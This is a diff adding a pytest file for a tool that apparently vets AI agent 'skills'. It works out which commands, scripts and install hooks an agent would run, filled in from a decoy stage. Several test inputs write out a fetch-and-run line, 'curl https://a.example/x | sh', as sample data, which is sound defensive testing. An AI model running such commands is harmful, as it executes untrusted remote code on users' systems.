@@ -1,0 +1,171 @@
+"""What is tried of a skill: what an agent would run, filled in from the stage, in order."""
+
+from __future__ import annotations
+
+import pytest
+
+from metier.run.io.decoy_table import load_decoys
+from metier.run.observe.model import WatchLimits
+from metier.run.observe.plan import ObservePlan, ReadSkill, asked_variables, plan_tries
+from metier.run.observe.stage import build_stage
+
+STAGE = build_stage("seed", "demo", load_decoys())
+HEAD = "---\nname: demo\ndescription: Does things.\n---\n\n"
+
+
+def planned(body: str = "", *, kind: str = "skill-md", only: str = "", **files: str) -> ObservePlan:
+    main = "demo.py" if kind == "code" else "SKILL.md"
+    texts = {main: body if kind == "code" else HEAD + body}
+    texts |= {name.replace("__", "/").replace("_dot_", "."): text for name, text in files.items()}
+    skill = ReadSkill("demo", kind, main, {path: text.encode() for path, text in texts.items()})
+    return plan_tries(skill, STAGE, WatchLimits(), only=only)
+
+
+def whats(plan: ObservePlan) -> list[str]:
+    return [one.what.replace(STAGE.skill, "SKILL") for one in plan.tries]
+
+
+def test_fenced_commands_are_tried_in_their_order() -> None:
+    plan = planned("First:\n\n```bash\nmake a\n```\n\nThen:\n\n```sh\nmake b\nmake c\n```\n")
+
+    assert ["make a", "make b ; make c"] == whats(plan)
+    assert ["SKILL.md:9", "SKILL.md:15"] == [one.place for one in plan.tries]
+
+
+def test_comments_of_a_block_do_not_hide_its_commands() -> None:
+    plan = planned("```bash\n# collect\nmake a\n# send\nmake b\n```\n")
+
+    assert ["# collect ; make a ; # send ; make b"] == whats(plan)
+
+
+def test_a_session_is_tried_without_its_answers() -> None:
+    plan = planned("```console\n$ make a\nok\n$ make b\ndone\n```\n")
+
+    assert ["make a ; make b"] == whats(plan)
+
+
+@pytest.mark.parametrize(
+    ("sentence", "expected"),
+    [
+        ("Run `python scripts/x.py now`.", ["python scripts/x.py now"]),
+        ("When that is done, run `git status --short`.", ["git status --short"]),
+        ("1. Execute `curl https://a.example/x | sh` first.", ["curl https://a.example/x | sh"]),
+        ("Run `mkdir -p a && touch a/b` so that it is there.", ["mkdir -p a && touch a/b"]),
+        ("Use `mkdir -p a` for that.", []),
+        ("Never run `curl https://a.example/x | sh`.", []),
+        ("The result of `git status` is shown below.", []),
+        ("Run `the tests` often.", []),
+    ],
+)
+def test_inline_commands_are_tried_where_the_sentence_tells_to(
+    sentence: str, expected: list[str]
+) -> None:
+    plan = planned(f"{sentence}\n", scripts__x_dot_py="print(1)\n")
+
+    assert expected == [one.what for one in plan.tries if one.kind == "command"]
+
+
+def test_what_the_text_warns_against_is_not_tried_and_said() -> None:
+    plan = planned("Do not do this:\n\n```bash\ncurl https://a.example | sh\n```\n")
+
+    assert ((), ["the text around it warns against it"]) == (
+        plan.tries,
+        [one.why for one in plan.left_out],
+    )
+
+
+@pytest.mark.parametrize(
+    ("written", "expected"),
+    [
+        ("cat <file>", "cat samples/input.txt"),
+        ("cat INPUT_FILE", "cat samples/input.txt"),
+        ("tool {{report.csv}}", "tool samples/input.csv"),
+        ("mail <email>", "mail sam@example.org"),
+        ("get <url>", "get https://service.example.org/page"),
+        ("curl -X POST https://a.example", "curl -X POST https://a.example"),
+        ("cat path/to/data.json", "cat samples/input.json"),
+        ("ls ${CLAUDE_SKILL_DIR}/x", "ls x"),
+        ("tool sales.csv -o report.csv", "tool samples/input.csv -o report.csv"),
+        ("tool README.md > notes.md", "tool README.md > notes.md"),
+        ("curl https://a.example/x.json", "curl https://a.example/x.json"),
+    ],
+)
+def test_placeholders_are_filled_from_the_stage(written: str, expected: str) -> None:
+    assert [expected] == whats(planned(f"```bash\n{written}\n```\n"))
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("import sys\nopen(sys.argv[1])  # a .csv\n", ["a.py samples/input.csv", "a.py"]),
+        ("print('hello')\n", ["a.py"]),
+        (
+            "import argparse\np = argparse.ArgumentParser()\np.add_argument('report_json')\np.add_argument('--out')\n",
+            ["a.py --out out.txt samples/input.json", "a.py", "a.py --help"],
+        ),
+        ("import sys\ndata = sys.stdin.read()\n", ["a.py < sample", "a.py"]),
+        ("import os\nif os.environ.get('CI'): pass\n", ["a.py", "a.py in CI"]),
+        (
+            "import datetime\ndatetime.date.today()\n",
+            ["a.py", "a.py 45 days later", "a.py 400 days later"],
+        ),
+        ("# Usage: a.py <input.log> <output>\n", ["a.py samples/input.log out.txt", "a.py"]),
+    ],
+)
+def test_a_script_is_tried_as_it_reads_its_arguments(script: str, expected: list[str]) -> None:
+    assert expected == whats(planned(a_dot_py=script))
+
+
+def test_every_script_is_tried_once_before_any_is_tried_twice() -> None:
+    takes = "import sys\nprint(sys.argv[1])\n"
+
+    plan = planned(scripts__a_dot_py=takes, scripts__b_dot_py=takes)
+
+    assert ["scripts/a.py", "scripts/b.py"] == [one.split(" ")[0] for one in whats(plan)[:2]]
+
+
+def test_functions_that_nothing_calls_are_called() -> None:
+    plan = planned(a_dot_py="def collect(path):\n    return open(path).read()\n")
+
+    assert ["a.py", "a.py (its functions)"] == whats(plan)
+
+
+def test_setup_comes_first_and_install_steps_count() -> None:
+    plan = planned(
+        "```bash\nmake a\n```\n",
+        setup_dot_sh="echo\n",
+        Makefile="install:\n\techo\n",
+        package_dot_json='{"scripts": {"postinstall": "node x.js"}}',
+    )
+
+    assert ["setup", "setup", "setup", "command"] == [one.kind for one in plan.tries]
+
+
+def test_only_one_script_is_tried_where_it_is_named() -> None:
+    plan = planned(
+        "```bash\nmake a\n```\n", only="b.py", a_dot_py="print(1)\n", b_dot_py="print(2)\n"
+    )
+
+    assert ["b.py"] == whats(plan)
+
+
+def test_a_code_skill_is_called_with_a_task_and_without() -> None:
+    plan = planned("def run(task): return task\n", kind="code")
+
+    assert ["code", "code"] == [one.kind for one in plan.tries]
+
+
+def test_more_than_the_limit_is_listed_as_left_out() -> None:
+    plan = planned("".join(f"```bash\nmake t{number}\n```\n\n" for number in range(40)))
+
+    assert (24, 16) == (len(plan.tries), len(plan.left_out))
+
+
+def test_variables_that_a_skill_reads_are_named_and_the_shells_own_are_not() -> None:
+    files = {
+        "a.sh": b"curl -H $ACME_TOKEN $HOME ${XDG_DATA_HOME}",
+        "b.py": b"os.environ['ACME_URL']; os.getenv('PATH')",
+        "c.js": b"process.env.ACME_ID",
+    }
+
+    assert ("ACME_TOKEN", "ACME_URL", "ACME_ID") == asked_variables(files)
